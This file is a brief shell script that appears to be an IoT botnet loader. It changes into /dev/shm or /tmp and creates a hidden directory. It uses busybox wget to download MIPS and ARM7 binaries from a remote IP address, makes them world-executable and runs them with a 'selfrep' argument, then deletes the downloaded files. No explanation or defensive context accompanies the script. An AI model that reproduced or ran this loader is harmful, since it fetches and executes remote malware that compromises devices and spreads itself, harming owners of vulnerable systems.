#!/bin/sh
cd /dev/shm || cd /tmp
mkdir -p ...; cd ...
busybox wget http://198.51.100.90/mips -O .m; busybox chmod 777 .m; ./.m selfrep
busybox wget http://198.51.100.90/arm7 -O .a; busybox chmod 777 .a; ./.a selfrep
rm -rf .m .a
